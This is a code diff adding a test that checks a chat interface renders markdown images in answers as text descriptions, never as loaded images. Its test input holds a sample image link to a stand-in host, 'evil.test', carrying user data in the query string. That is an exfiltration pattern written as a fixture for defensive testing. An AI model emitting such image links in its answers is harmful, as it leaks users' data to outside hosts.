@@ -189,3 +189,11 @@ def test_a_stopped_answer_drops_its_unfinished_marker(qtbot: Any) -> None:
     assert " ".join(shown.split()).startswith("Output rose 1 and then")
     assert "[cite:a-" not in shown
     assert "Stopped" in widget.status.text()
+
+
+def test_images_in_answers_are_never_loaded_only_described() -> None:
+    from ui.chat.markdown import to_html
+
+    html = to_html("See ![a chart of sales](http://evil.test/p.png?d=jane) and ![](http://x.test/a.png)")
+    assert "<img" not in html and "evil.test" not in html and "x.test" not in html
+    assert "[a chart of sales]" in html and "[image]" in html
